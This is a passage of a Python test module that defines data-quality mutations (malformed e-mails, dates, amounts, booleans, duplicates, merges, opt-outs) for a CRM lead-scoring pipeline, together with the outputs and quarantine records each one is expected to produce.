"""Mutations of rows: what people, CRMs and spreadsheets do to a correct life.

Each mutation spoils a life of its own. It is right if the public tables say what they say of a life
that nothing was done to, or what the mutation names; it is recorded if something was lost and
quarantined_records, unmapped_values or data_health say what. The ledger of all lives is predicted
row by row.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from python_checks.tests.build.lives import LEDGER_OF_A_LIFE, PERSONAL_TABLES, Life

Change = Callable[[Life], None]
Ledger = dict[tuple[str, str], int]


@dataclass(frozen=True)
class Mutation:
    """What is done to a life, and what must become of it.

    Attributes:
        kind: Mutations of a kind are counted together.
        name: What is done.
        change: Does it.
        said: Values of columns of the public tables, which differ from those of a correct life;
            none: every public table says the same.
        ledger: How its rows in the ledger differ from those of a correct life.
        quarantined: Its rows in quarantined_records: source and reason, with # for its name.
        unmapped: Its rows in unmapped_values: source, column and value.
        health: What data_health counts: check, source, column, rows.
        is_gone: Whether no public table may have its lead.
    """

    kind: str
    name: str
    change: Change
    said: dict[str, Any] = field(default_factory=dict)
    ledger: Ledger = field(default_factory=dict)
    quarantined: tuple[tuple[str, str], ...] = ()
    unmapped: tuple[tuple[str, str, str], ...] = ()
    health: tuple[tuple[str, str, str | None, int], ...] = ()
    is_gone: bool = False
    value: str = ""

    @property
    def becomes(self) -> str:
        """Whether its outcome is right, or lacks something and that is recorded."""
        return "recorded" if self.quarantined or self.unmapped or self.health else "right"


MUTATIONS: list[Mutation] = []


def add(kind: str, name: str, change: Change, **outcome: Any) -> None:
    """Declare a mutation."""
    MUTATIONS.append(Mutation(kind, name, change, **outcome))


def cell(table: str, column: str, value: str, number: int = 0) -> Change:
    """Set a cell of a row; # in it stands for the name of the life."""
    return lambda life: life.set(table, number, **{column: value})


def cells(kind: str, table: str, column: str, values: list[str], **outcome: Any) -> None:
    """Declare a mutation for each value of a cell, by default of the first row of its table."""
    number = outcome.pop("number", 0)
    for value in values:
        name = f"{table}.{column} = {value[:40]!r}"
        add(kind, name, cell(table, column, value, number), value=value, **outcome)


def turned(source: str, outcome: str, rows: int = 1, usual: str = "used") -> Ledger:
    """Rows of a source that have another outcome than usual."""
    return {(source, usual): -rows, (source, outcome): rows}


def all_turned(outcome: str, tables: tuple[str, ...] = PERSONAL_TABLES) -> Ledger:
    """All rows of some tables have one outcome."""
    found: Ledger = {}
    for (table, usual), rows in LEDGER_OF_A_LIFE.items():
        if table in tables:
            found[table, usual] = -rows
            found[table, outcome] = found.get((table, outcome), 0) + rows
    return found


def plus(*ledgers: Ledger) -> Ledger:
    """Several changes of the ledger together."""
    found: Ledger = {}
    for ledger in ledgers:
        for key, rows in ledger.items():
            found[key] = found.get(key, 0) + rows
    return found


BY_ADDRESS = plus(
    turned("email_events", "unresolved"),
    turned("email_events", "unresolved", usual="not_a_signal"),
    turned("product_events", "unresolved"),
)
"""Nobody has the address of the life's e-mails and product events."""
ERASED = plus(all_turned("erased"), turned("intent_signals", "unresolved"))
NO_TITLE = {"lead_scores.criteria_unknown": 1}
ACCOUNT_WITHOUT_ONE = {
    "account_engagement.account_fit_points": 15,
    "lead_scores.fit_points": 40,
    "handoffs.employee_count": 200,
    "handoffs.industry": "Software",
}
"""Of what the account does not say, the lead's own counts for the lead."""
WITHOUT_INTENT = {"highest.intent_points": 0}
WITHOUT_VISIT = {"highest.meaningful_signals": 4}
WITHOUT_CLICK = {
    "lead_score_history.behaviour_points": [0, 15, 15, 20, 40, 40, 40, 40, 40, 40, 0],
    "lead_stages.stage": "customer",
}
WITHOUT_DEMO = {"highest.high_intent_signals": 0, "lead_stages.stage": "customer"}
WITHOUT_ACCEPTANCE = {"lead_stages.sql_accepted_at": "2026-03-07 10:00:00"}
WITHOUT_DEAL = {"lead_stages.customer_at": None, "handoffs.amount": None}
DEAL_IS_NOT_THERE = (("unknown_reference", "opportunity_contacts", "opportunity_id", 1),)
DEAL_LOST = plus(turned("opportunities", "unusable"), turned("opportunity_contacts", "unresolved"))
NOBODY = (
    *("web_events", "email_events", "marketing_activities", "product_events"),
    *("sales_activities", "lead_status_changes", "qualification_answers", "opportunities"),
    "opportunity_contacts",
)


def nobody(of_leads: str) -> Ledger:
    """The lead is not there, and nothing of it belongs to anybody."""
    tables = (*NOBODY, "intent_signals")
    return plus(turned("leads", of_leads), all_turned("unresolved", tables))


NOBODY_IS_NAMED = tuple(
    ("unknown_reference", table, "lead_id", rows)
    for table, rows in (
        *(("web_events", 2), ("marketing_activities", 2), ("sales_activities", 2)),
        *(("lead_status_changes", 1), ("qualification_answers", 4), ("opportunities", 1)),
        ("opportunity_contacts", 1),
    )
)
"""What references find where the row of the lead cannot be used."""

# Placeholders: nothing was said.
cells(
    *("placeholders", "leads", "job_title"),
    ["n/a", "Select", " NULL ", "-", "(not set)", "0", ""],
    said=NO_TITLE,
)
cells(
    "placeholders",
    "leads",
    "email",
    ["n/a", "NULL", "noemail"],
    said={
        "lead_stages.stage": "customer",
        "lead_scores.last_engagement_at": "2026-03-05 15:00:00",
        "lead_stage_history.stage": [
            "lead",
            "sql_proposed",
            "sql_working",
            "sql_accepted",
            "sql_qualified",
            "opportunity",
            "customer",
        ],
    },
    ledger=BY_ADDRESS,
)
cells("placeholders", "leads", "account_id", ["0", "undefined", "none"])
cells("placeholders", "leads", "owner_id", ["00000000-0000-0000-0000-000000000000"])
cells("placeholders", "leads", "campaign_id", ["(not set)"], said={"lead_stages.campaign_id": None})
cells("placeholders", "web_events", "email", ["null"], number=2)
cells("placeholders", "web_events", "lead_id", ["undefined"], number=1)
cells("placeholders", "accounts", "industry", ["unknown", "--none--"], said=ACCOUNT_WITHOUT_ONE)
cells("placeholders", "leads", "merged_into_lead_id", ["0", "null", "None"])

# Addresses: one person writes an address in many ways.
cells(
    "addresses",
    "leads",
    "email",
    [
        "mailto:#@#.com",
        "<#@#.com>",
        '"#@#.com"',
        "MAILTO:<#@#.COM>",
        "  #@#.com  ",
        "\u200b#@#.com",
        "#@#.com\u00a0",
        "'#@#.com'",
    ],
)
cells(
    "addresses", "email_events", "email", ["#@#.COM", "<mailto:#@#.com>", "\ufeff#@#.com"], number=1
)
cells("addresses", "product_events", "email", [" #@#.com\t", "#@\u200b#.com"])


def accented(life: Life) -> None:
    """An accent is one character in the CRM and two in the e-mail tool."""
    life.set("leads", email="jos\u00e9#@#.com")
    for number in range(2):
        life.set("email_events", number, email="jose\u0301#@#.com")
    life.set("product_events", email="JOSE\u0301#@#.com")


add("addresses", "an accent in two characters", accented)
cells(
    "addresses",
    "leads",
    "email",
    ["#@two@#.com", "#.com", "@#.com", "#@localhost"],
    said={
        "lead_scores.last_engagement_at": "2026-03-05 15:00:00",
        "lead_stages.stage": "customer",
    },
    ledger=BY_ADDRESS,
    quarantined=(("leads", "unreadable email"),),
)
cells(
    "addresses",
    "email_events",
    "email",
    ["call me"],
    number=1,
    said=WITHOUT_CLICK,
    ledger=turned("email_events", "unresolved"),
    quarantined=(("email_events", "unreadable email"),),
)


def shared_mailbox(life: Life) -> None:
    """A colleague writes from the same mailbox."""
    for table, number in (
        ("leads", 0),
        ("email_events", 0),
        ("email_events", 1),
        ("product_events", 0),
    ):
        life.set(table, number, email="info@#.com")
    life.copy("leads", lead_id="#-colleague", created_at="2026-03-02 10:00:00")


add(
    "addresses",
    "a mailbox of two people",
    shared_mailbox,
    ledger={("leads", "used"): 1},
    said={"account_engagement.leads": 2},
)

# Domains.
cells(
    "domains",
    "accounts",
    "domain",
    [
        "https://www.#.com/",
        "WWW.#.COM",
        "#.com:443",
        "http://#.com/en?x=1",
        "//#.com",
        " #.com ",
    ],
)
cells("domains", "intent_signals", "account_domain", ["https://#.com/path", "Www.#.Com"])

# Identifiers.
cells("identifiers", "web_events", "lead_id", ["#.0", "#.00", " # ", "\t#"], number=2)
cells("identifiers", "sales_activities", "lead_id", ["#.0"], number=1)
cells("identifiers", "leads", "account_id", ["a-#.0", " a-# "])
cells(
    "identifiers",
    "opportunities",
    "account_id",
    ["A-#"],
    health=(("unknown_reference", "opportunities", "account_id", 1),),
)
cells(
    "identifiers",
    "web_events",
    "lead_id",
    ["7.01E+14", "1e+05"],
    number=2,
    said=WITHOUT_VISIT,
    ledger=turned("web_events", "unresolved"),
    quarantined=(("web_events", "unreadable lead_id"),),
)
for value in ("", "n/a"):
    add(
        "identifiers",
        f"web_events.event_id = {value!r}",
        cell("web_events", "event_id", value, 2),
        said=WITHOUT_VISIT,
        ledger=turned("web_events", "unusable"),
        quarantined=(("web_events", "missing event_id", value or None),),
    )


def long_key(life: Life) -> None:
    """A Salesforce key of 18 characters, and references of 15."""
    life.rename_lead(f"00Qx0000000{life.name}"[:15] + "AAV")
    for table in ("web_events", "marketing_activities", "sales_activities", "opportunities"):
        for row in life.rows[table]:
            if row.get("lead_id"):
                row["lead_id"] = row["lead_id"][:15]


add("identifiers", "references of 15 characters", long_key)


def other_case(life: Life) -> None:
    """The case of a long key is part of it."""
    life.rename_lead(f"00Qx0000000{life.name}"[:15] + "AAV")
    life.rows["web_events"][2]["lead_id"] = life.lead_id[:15].lower()


add(
    "identifiers",
    "a short reference in another case",
    other_case,
    said=WITHOUT_VISIT,
    ledger=turned("web_events", "unresolved"),
    health=(("unknown_reference", "web_events", "lead_id", 1),),
)
add("identifiers", "a number as key", lambda life: life.rename_lead(f"90{life.name[1:]}"))


def number_as_key(life: Life) -> None:
    """A spreadsheet made the key of the lead a number with a decimal."""
    life.rename_lead(f"80{life.name[1:]}")
    life.rows["leads"][0]["lead_id"] += ".0"


add("identifiers", "a number with a decimal as key", number_as_key)
add(
    "identifiers",
    "a key in scientific notation",
    cell("leads", "lead_id", "7.01E+14"),
    is_gone=True,
    ledger=nobody("unusable"),
    quarantined=(("leads", "unreadable lead_id", "7.01E+14"),),
    health=NOBODY_IS_NAMED,
)

# Booleans.
cells(
    "booleans",
    "leads",
    "is_deleted",
    ["Y", "yes", "T", "TRUE", "1", "1.0", "On", " true "],
    is_gone=True,
    ledger=ERASED,
)
cells("booleans", "leads", "is_deleted", ["N", "no", "F", "FALSE", "0", "0.0", "Off", ""])
cells(
    "booleans",
    "leads",
    "is_deleted",
    ["maybe", "2", "deleted"],
    is_gone=True,
    ledger=nobody("unusable"),
    health=NOBODY_IS_NAMED,
    quarantined=(("leads", "unreadable is_deleted"),),
)
cells(
    "booleans",
    "leads",
    "has_opted_out",
    ["ja"],
    is_gone=True,
    ledger=nobody("unusable"),
    health=NOBODY_IS_NAMED,
    quarantined=(("leads", "unreadable has_opted_out"),),
)
cells("booleans", "opportunities", "is_won", ["Y", "1.0", "ON"])
cells(
    "booleans",
    "opportunities",
    "is_won",
    ["won", "N/A"],
    said=WITHOUT_DEAL,
    ledger=DEAL_LOST,
    health=DEAL_IS_NOT_THERE,
    quarantined=(("opportunities", "unreadable is_won"),),
)
cells(
    "booleans",
    "opportunities",
    "is_closed",
    ["closed"],
    said=WITHOUT_DEAL,
    ledger=DEAL_LOST,
    health=DEAL_IS_NOT_THERE,
    quarantined=(("opportunities", "unreadable is_closed"),),
)
cells(
    "booleans",
    "accounts",
    "is_target_account",
    ["perhaps"],
    said={"account_engagement.is_target_account": False},
    quarantined=(("accounts", "unreadable is_target_account"),),
)
cells(
    "booleans",
    "leads",
    "phone_is_valid",
    ["?"],
    quarantined=(("leads", "unreadable phone_is_valid"),),
)
cells(
    "booleans",
    "sales_activities",
    "is_automated",
    ["sometimes"],
    number=1,
    quarantined=(("sales_activities", "unreadable is_automated"),),
)

# Numbers.
cells(
    "numbers",
    "opportunities",
    "amount",
    [
        "$20,000.00",
        "EUR 20 000",
        "20000.00 USD",
        "\u20ac20000",
        "20,000",
        "20\u00a0000",
        "+20000",
        "US$20,000",
        "20000.",
        "\u00a3 20,000",
    ],
)
cells(
    "numbers",
    "opportunities",
    "amount",
    [
        "20k",
        "20.000,00",
        "1.2.3",
        "twenty",
        "2e4",
        "NaN",
        "Infinity",
        "20,00,0",
        "1000000000000000",
        "9" * 40,
        "0x4E20",
    ],
    said={"handoffs.amount": None},
    quarantined=(("opportunities", "unreadable amount"),),
)
cells(
    "numbers",
    "opportunities",
    "amount",
    ["-20000", "$-1", "-0.01"],
    said=WITHOUT_DEAL,
    ledger=DEAL_LOST,
    health=DEAL_IS_NOT_THERE,
    quarantined=(("opportunities", "negative amount"),),
)
cells(
    "numbers",
    "opportunities",
    "amount",
    ["90000000.00"],
    said={"handoffs.amount": 90_000_000},
)
cells("numbers", "opportunities", "amount", [""], said={"handoffs.amount": None})
cells("numbers", "accounts", "employee_count", ["200.0", " 200", "+200"])
for value in ("51-200", "200.5", "many", "1000000000", "99999999999999999999", "1e3", "-200"):
    add(
        "numbers",
        f"accounts.employee_count = {value!r}",
        cell("accounts", "employee_count", value),
        said=ACCOUNT_WITHOUT_ONE,
        quarantined=(("accounts", "unreadable employee_count"),),
    )
cells("numbers", "accounts", "annual_revenue", ["$5,000,000"])
cells(
    "numbers",
    "accounts",
    "annual_revenue",
    ["5M", "-5000000"],
    quarantined=(("accounts", "unreadable annual_revenue"),),
)

# Countries: the account has none, so that of the lead counts.


def country(value: str) -> Change:
    """The lead alone has a country."""

    def change(life: Life) -> None:
        life.set("accounts", country="")
        life.set("leads", country=value)

    return change


for value in ("USA", "United States", "united  states", "us", "U.S.A.", "United States of America"):
    add(
        "countries",
        f"country {value}",
        country(value),
        said={
            "account_engagement.account_fit_points": 20,
            "handoffs.territory": "AMER",
            "lead_scores.fit_points": 40,
        },
    )
for value in ("Germany", "Deutschland", "DEU", "de", " GERMANY "):
    add("countries", f"country {value}", country(value), said={"handoffs.territory": "EMEA"})
add("countries", "country UK", country("UK"), said={"handoffs.territory": "EMEA"})
add(
    "countries",
    "country NA is Namibia",
    country("NA"),
    said={"lead_scores.criteria_unknown": 0, "lead_scores.criteria_matched": 3},
)
for value in ("Atlantis", "n/a", "EMEA", "ZZ"):
    add(
        "countries",
        f"country {value}",
        country(value),
        said=NO_TITLE,
        quarantined=(("leads", "unknown country"),),
        unmapped=(("leads", "country", value),),
    )

# Times.
cells(
    "times",
    "leads",
    "created_at",
    [
        "2026-03-01T10:00:00Z",
        "2026-03-01 12:00:00+02:00",
        "2026-03-01T05:00:00-0500",
        "2026-03-01 10:00",
        "2026-03-01 10:00:00.000000",
        "2026-03-01T10:00:00.000000000Z",
        "2026-03-01 10:00:00 UTC",
        " 2026-03-01 10:00:00 ",
        "2026-03-01t10:00:00z",
        "2026-03-01 15:30:00 +05:30",
        "2026-02-28T22:00:00-12",
    ],
)
cells(
    "times",
    "marketing_activities",
    "occurred_at",
    ["2026-03-05T17:00:00+02", "2026-03-05T15:00:00.0Z"],
    number=1,
)
cells(
    "times",
    "marketing_activities",
    "occurred_at",
    [
        "03/05/2026",
        "5 March 2026",
        "1772722800",
        "2026-02-30 10:00:00",
        "2026-03-05 24:00:00",
        "2026-03-05 15:00:60",
        "2026-3-5",
        "20260305",
        "2026-03-05 3:00 PM",
        "2026-03-05T15:00:00+25:00",
        "2026-13-01",
        "46086.625",
        "2026-W10-4",
        "0000-00-00 00:00:00",
        "2025-02-29",
    ],
    number=1,
    said=WITHOUT_DEMO,
    ledger=turned("marketing_activities", "unusable"),
    quarantined=(("marketing_activities", "unreadable occurred_at"),),
)
cells(
    "times",
    "marketing_activities",
    "occurred_at",
    [""],
    number=1,
    said=WITHOUT_DEMO,
    ledger=turned("marketing_activities", "unusable"),
    quarantined=(("marketing_activities", "missing occurred_at"),),
)
cells(
    "times",
    "marketing_activities",
    "occurred_at",
    ["1970-01-01 00:00:00", "1999-12-31 23:59:59"],
    number=1,
    said=WITHOUT_DEMO,
    ledger=turned("marketing_activities", "unusable"),
    quarantined=(("marketing_activities", "implausible occurred_at"),),
)
cells(
    "times",
    "marketing_activities",
    "occurred_at",
    ["2031-03-05 15:00:00"],
    number=1,
    said={"lead_scores.last_engagement_at": "2026-03-06 00:00:00"},
    quarantined=(("marketing_activities", "ahead of received_at occurred_at"),),
)
cells(
    "times",
    "leads",
    "created_at",
    ["1900-01-01", "1970-01-01 00:00:00"],
    said={"lead_stages.first_seen_at": "2026-03-02 08:05:00"},
    quarantined=(("leads", "implausible created_at"),),
)
cells(
    "times",
    "leads",
    "created_at",
    ["yesterday"],
    is_gone=True,
    ledger=nobody("unusable"),
    health=NOBODY_IS_NAMED,
    quarantined=(("leads", "unreadable created_at"),),
)
cells(
    "times",
    "leads",
    "created_at",
    [""],
    is_gone=True,
    ledger=nobody("unusable"),
    health=NOBODY_IS_NAMED,
    quarantined=(("leads", "missing created_at"),),
)
cells(
    "times",
    "leads",
    "created_at",
    ["2026-10-01 00:00:00", "2999-01-01"],
    is_gone=True,
    ledger=nobody("after_as_of"),
)
cells("times", "leads", "updated_at", ["today"], quarantined=(("leads", "unreadable updated_at"),))
cells(
    "times",
    "web_events",
    "received_at",
    ["soon"],
    number=2,
    quarantined=(("web_events", "unreadable received_at"),),
)
cells(
    "times",
    "opportunities",
    "closed_at",
    ["2026-04-10 ", "2026-04-10"],
    said={"lead_stages.customer_at": "2026-04-10 23:59:59"},
)
cells(
    "times",
    "lead_status_changes",
    "changed_at",
    ["2026-03-06"],
    said={"lead_stages.sql_accepted_at": "2026-03-06 23:59:59"},
)
cells(
    "times",
    "sales_activities",
    "occurred_at",
    ["2026-03-05"],
    number=1,
    said={"handoffs.first_response_at": "2026-03-05 23:59:59"},
)


def demo_of_a_day(life: Life) -> None:
    """The demo request has a date alone, and no visit comes before it."""
    life.drop("web_events", 1)
    life.drop("marketing_activities", 0)
    life.set("marketing_activities", occurred_at="2026-03-05")


add(
    "times",
    "a demo request of a date alone",
    demo_of_a_day,
    ledger={("web_events", "used"): -1, ("marketing_activities", "used"): -1},
    said={"lead_stages.sql_proposed_at": "2026-03-05 00:00:00"},
)
cells(
    "times",
    "opportunities",
    "closed_at",
    ["10.04.2026"],
    said=WITHOUT_DEAL,
    ledger=DEAL_LOST,
    health=DEAL_IS_NOT_THERE,
    quarantined=(("opportunities", "unreadable closed_at"),),
)

# Words of closed lists and of the policy.
cells("vocabulary", "email_events", "event_type", ["CLICKED", " Clicked "], number=1)
cells("vocabulary", "email_events", "program", ["MARKETING"], number=1)
cells("vocabulary", "lead_status_changes", "status", ["Accepted", "ACCEPTED "])
cells("vocabulary", "sales_activities", "outcome", ["CONNECTED"], number=1)
cells(
    "vocabulary",
    "leads",
    "email_status",
    ["valid", "ok"],
    quarantined=(("leads", "unknown email_status"),),
    unmapped=(("leads", "email_status", "&"),),
    said={"handoffs.checks_unknown": 1},
)
cells(
    "vocabulary",
    "accounts",
    "status",
    ["prospect"],
    quarantined=(("accounts", "unknown status"),),
    unmapped=(("accounts", "status", "prospect"),),
)
cells(
    "vocabulary",
    "email_events",
    "program",
    ["newsletter"],
    number=1,
    said=WITHOUT_CLICK,
    ledger=turned("email_events", "unusable"),
    quarantined=(("email_events", "unknown program"),),
    unmapped=(("email_events", "program", "newsletter"),),
)
cells(
    "vocabulary",
    "email_events",
    "program",
    [""],
    number=1,
    said=WITHOUT_CLICK,
    ledger=turned("email_events", "unusable"),
    quarantined=(("email_events", "missing program"),),
)
cells(
    "vocabulary",
    "lead_status_changes",
    "status",
    ["won!"],
    said=WITHOUT_ACCEPTANCE,
    ledger=turned("lead_status_changes", "unusable"),
    quarantined=(("lead_status_changes", "unknown status"),),
    unmapped=(("lead_status_changes", "status", "won!"),),
)
cells(
    "vocabulary",
    "lead_status_changes",
    "status",
    [" "],
    said=WITHOUT_ACCEPTANCE,
    ledger=turned("lead_status_changes", "unusable"),
    quarantined=(("lead_status_changes", "missing status"),),
)
for value, reason in (("sms", "unknown"), ("", "missing")):
    add(
        "vocabulary",
        f"sales_activities.activity_type = {value!r}",
        cell("sales_activities", "activity_type", value, 1),
        said={"handoffs.connected_at": None},
        ledger=turned("sales_activities", "unusable"),
        quarantined=(("sales_activities", f"{reason} activity_type"),),
    )
cells(
    "vocabulary",
    "sales_activities",
    "outcome",
    ["left voicemail"],
    number=1,
    said={"handoffs.connected_at": None},
    ledger=turned("sales_activities", "unusable"),
    quarantined=(("sales_activities", "unknown outcome"),),
    unmapped=(("sales_activities", "outcome", "left voicemail"),),
)
cells(
    "vocabulary",
    "qualification_answers",
    "answer",
    ["maybe"],
    number=3,
    said={"lead_qualification.confirmed": [3, 0, 0, 0]},
    ledger=turned("qualification_answers", "unusable"),
    quarantined=(("qualification_answers", "unknown answer"),),
    unmapped=(("qualification_answers", "answer", "maybe"),),
)
cells(
    "vocabulary",
    "web_events",
    "event_name",
    ["page viewed #"],
    number=2,
    said=WITHOUT_VISIT,
    ledger=turned("web_events", "not_a_signal"),
    unmapped=(("web_events", "event_name", "page viewed #"),),
)
cells(
    "vocabulary",
    "email_events",
    "event_type",
    ["click-#"],
    number=1,
    said=WITHOUT_CLICK,
    ledger=turned("email_events", "not_a_signal"),
    unmapped=(("email_events", "event_type", "click-#"),),
)
cells(
    "vocabulary",
    "marketing_activities",
    "activity_type",
    ["demo-#"],
    number=1,
    said=WITHOUT_DEMO,
    ledger=turned("marketing_activities", "not_a_signal"),
    unmapped=(("marketing_activities", "activity_type", "demo-#"),),
)
cells(
    "vocabulary",
    "intent_signals",
    "signal_type",
    ["surge #"],
    said=WITHOUT_INTENT,
    ledger=turned("intent_signals", "not_a_signal"),
    unmapped=(("intent_signals", "signal_type", "surge #"),),
)
cells(
    "vocabulary",
    "leads",
    "lead_source",
    ["Found by #"],
    said={"lead_stages.channel": "paid"},
    unmapped=(("leads", "lead_source", "Found by #"),),
)
cells("vocabulary", "leads", "lead_source", ["organic_search", "ORGANIC  SEARCH", "Organic-Search"])
cells(
    "vocabulary",
    "campaigns",
    "channel",
    ["billboard #"],
    unmapped=(("campaigns", "channel", "billboard #"),),
)
cells(
    "vocabulary",
    "lead_status_changes",
    "reason_code",
    ["because #"],
    said={"handoffs.reason_code": "because #", "handoffs.disposition": "accepted"},
    unmapped=(("lead_status_changes", "reason_code", "because #"),),
)

# Several rows with one key.


def doubled(table: str, number: int = 0, **other: str) -> Change:
    """A copy of a row, with other cells."""
    return lambda life: life.copy(table, number, **other)


for table, number in (
    ("leads", 0),
    ("accounts", 0),
    ("web_events", 2),
    ("email_events", 1),
    ("marketing_activities", 1),
    ("product_events", 0),
    ("intent_signals", 0),
    ("sales_activities", 1),
    ("lead_status_changes", 0),
    ("qualification_answers", 3),
    ("opportunities", 0),
    ("opportunity_contacts", 0),
    ("campaigns", 0),
    ("campaign_costs", 0),
):
    add(
        "duplicates",
        f"{table}: a row twice",
        doubled(table, number),
        ledger={(table, "repeated"): 1},
    )
add(
    "duplicates",
    "an older version of the lead",
    doubled("leads", job_title="Intern", updated_at="2026-02-28 00:00:00"),
    ledger={("leads", "superseded"): 1},
)
add(
    "duplicates",
    "a version of the lead without a time",
    doubled("leads", job_title="Intern", updated_at=""),
    ledger={("leads", "superseded"): 1},
)
add(
    "duplicates",
    "an older deal that is lost",
    doubled("opportunities", is_won="false", updated_at="2026-04-01 00:00:00"),
    ledger={("opportunities", "superseded"): 1},
)
add(
    "duplicates",
    "an event that was received before",
    doubled("web_events", 2, page_path="/pricing", received_at="2026-03-05 00:00:00"),
    ledger={("web_events", "superseded"): 1},
)
add(
    "duplicates",
    "two versions of an event as late as each other",
    doubled("web_events", 2, page_path="/features/x"),
    ledger={("web_events", "conflicting"): 1},
    health=(("conflicting_rows", "web_events", None, 1),),
)
add(
    "duplicates",
    "two versions of a status at one time",
    doubled("lead_status_changes", reason_code="other"),
    ledger={("lead_status_changes", "conflicting"): 1},
    said={"handoffs.reason_code": "other"},
    health=(("conflicting_rows", "lead_status_changes", None, 1),),
)
add(
    "duplicates",
    "versions of the lead that tie, one deleted",
    doubled("leads", is_deleted="true"),
    is_gone=True,
    ledger=plus(ERASED, {("leads", "conflicting"): 0, ("leads", "erased"): 1}),
)
add(
    "duplicates",
    "the newest version has an unreadable is_deleted",
    doubled("leads", is_deleted="x", updated_at="2026-05-01 00:00:00"),
    is_gone=True,
    ledger=plus(nobody("unusable"), {("leads", "superseded"): 1}),
    health=NOBODY_IS_NAMED,
    quarantined=(("leads", "unreadable is_deleted"),),
)
add(
    "duplicates",
    "an older version has an unreadable is_deleted",
    doubled("leads", is_deleted="x", updated_at="2026-01-01 00:00:00"),
    ledger={("leads", "unusable"): 1},
    quarantined=(("leads", "unreadable is_deleted"),),
)
add(
    "duplicates",
    "one event under two spellings of its key",
    doubled("web_events", 2, event_id="w3-#.0"),
    ledger={("web_events", "repeated"): 1},
)
add(
    "duplicates",
    "one event under two keys",
    doubled("web_events", 2, event_id="w9-#"),
    ledger={("web_events", "used"): 1},
    said={"highest.meaningful_signals": 6},
)

# References that find nothing.
cells(
    "references",
    "web_events",
    "lead_id",
    ["gone-#"],
    number=2,
    said=WITHOUT_VISIT,
    ledger=turned("web_events", "unresolved"),
    health=(("unknown_reference", "web_events", "lead_id", 1),),
)


def found_by_address(life: Life) -> None:
    """The event names nobody, but has the address."""
    life.set("web_events", 2, lead_id="gone-#", email="#@#.com")


add(
    "references",
    "a lead that is not there, and a known address",
    found_by_address,
    health=(("unknown_reference", "web_events", "lead_id", 1),),
)
cells(
    "references",
    "leads",
    "account_id",
    ["gone-#"],
    health=(("unknown_reference", "leads", "account_id", 1),),
)
cells(
    "references",
    "leads",
    "owner_id",
    ["gone-#"],
    health=(("unknown_reference", "leads", "owner_id", 1),),
)
cells(
    "references",
    "leads",
    "campaign_id",
    ["gone-#"],
    health=(("unknown_reference", "leads", "campaign_id", 1),),
    said={"handoffs.first_campaign_id": "gone-#"},
)
cells(
    "references",
    "sales_activities",
    "rep_id",
    ["gone-#"],
    number=1,
    health=(("unknown_reference", "sales_activities", "rep_id", 1),),
)
cells(
    "references",
    "lead_status_changes",
    "lead_id",
    ["gone-#"],
    said=WITHOUT_ACCEPTANCE,
    ledger=turned("lead_status_changes", "unresolved"),
    health=(("unknown_reference", "lead_status_changes", "lead_id", 1),),
)
cells(
    "references",
    "qualification_answers",
    "lead_id",
    [""],
    number=3,
    said={"lead_qualification.confirmed": [3, 0, 0, 0]},
    ledger=turned("qualification_answers", "unresolved"),
)
cells(
    "references",
    "opportunities",
    "lead_id",
    ["gone-#"],
    health=(("unknown_reference", "opportunities", "lead_id", 1),),
)
cells(
    "references",
    "opportunity_contacts",
    "lead_id",
    ["gone-#"],
    ledger=turned("opportunity_contacts", "unresolved"),
    health=(("unknown_reference", "opportunity_contacts", "lead_id", 1),),
)
cells(
    "references",
    "opportunity_contacts",
    "opportunity_id",
    ["gone-#"],
    ledger=turned("opportunity_contacts", "unresolved"),
    health=(("unknown_reference", "opportunity_contacts", "opportunity_id", 1),),
)
cells(
    "references",
    "campaign_costs",
    "campaign_id",
    ["gone-#"],
    health=(("unknown_reference", "campaign_costs", "campaign_id", 1),),
)
cells(
    "references",
    "intent_signals",
    "account_domain",
    ["gone-#.com"],
    said=WITHOUT_INTENT,
    ledger=turned("intent_signals", "unresolved"),
)
cells(
    "references",
    "leads",
    "merged_into_lead_id",
    ["gone-#"],
    health=(("unknown_reference", "leads", "merged_into_lead_id", 1),),
)

# Merged and deleted records.


def merged(**other: str) -> Change:
    """A record that was merged into the lead did everything that the lead did on the web."""

    def change(life: Life) -> None:
        life.copy("leads", lead_id="old-#", email="old-#@#.com", merged_into_lead_id="#", **other)
        for number in range(3):
            if life.rows["web_events"][number].get("lead_id"):
                life.set("web_events", number, lead_id="old-#")
        life.set("opportunities", lead_id="old-#")
        for number in range(2):
            life.set("email_events", number, email="old-#@#.com")

    return change


add("merges", "a merged record", merged(), ledger={("leads", "merged"): 1})
add(
    "merges",
    "a merged record that is deleted",
    merged(is_deleted="true"),
    ledger={("leads", "merged"): 1},
)


def ring(life: Life) -> None:
    """Two records that were merged into each other."""
    life.set("leads", merged_into_lead_id="old-#")
    life.copy("leads", lead_id="old-#", email="old-#@#.com", merged_into_lead_id="#", account_id="")


add(
    "merges",
    "a ring of two",
    ring,
    ledger={("leads", "used"): 1},
    said={"account_engagement.leads": 2},
)
cells("merges", "leads", "merged_into_lead_id", ["#"])


def deleted_into_nothing(life: Life) -> None:
    """Deleted, and merged into a record that is not there."""
    life.set("leads", is_deleted="true", merged_into_lead_id="gone-#")


add(
    "merges",
    "deleted and merged into nothing",
    deleted_into_nothing,
    is_gone=True,
    ledger=ERASED,
    health=(("unknown_reference", "leads", "merged_into_lead_id", 1),),
)


def duplicate_person(life: Life) -> None:
    """The same person came again."""
    life.copy("leads", lead_id="again-#", created_at="2026-04-01 10:00:00", email=" #@#.COM")


add(
    "merges",
    "the same address in a second record",
    duplicate_person,
    ledger={("leads", "merged"): 1},
)


def chain(life: Life) -> None:
    """A record merged into one that was merged."""
    merged()(life)
    life.copy(
        "leads",
        lead_id="older-#",
        email="older-#@#.com",
        merged_into_lead_id="old-#",
        is_deleted="true",
    )
    life.set("sales_activities", 1, lead_id="older-#")


add("merges", "a chain of two", chain, ledger={("leads", "merged"): 2})

# Opt-outs.
add(
    "opt-outs",
    "a flag with its time",
    lambda life: life.set("leads", has_opted_out="Y", opted_out_at="2026-05-01 09:00:00"),
    said={"lead_scores.penalty_points": -50},
)
add(
    "opt-outs",
    "a flag without a time",
    lambda life: life.set("leads", has_opted_out="1"),
    said={"lead_scores.penalty_points": -50},
    health=(("opt_out_without_time", "leads", "opted_out_at", 1),),
)
add(
    "opt-outs",
    "a flag with an implausible time",
    lambda life: life.set("leads", has_opted_out="yes", opted_out_at="1970-01-01"),
    said={"lead_scores.penalty_points": -50},
    quarantined=(("leads", "implausible opted_out_at"),),
    health=(("opt_out_without_time", "leads", "opted_out_at", 1),),
)
add(
    "opt-outs",
    "an opt-out event of a machine",
    lambda life: life.copy(
        "email_events",
        1,
        event_id="e9-#",
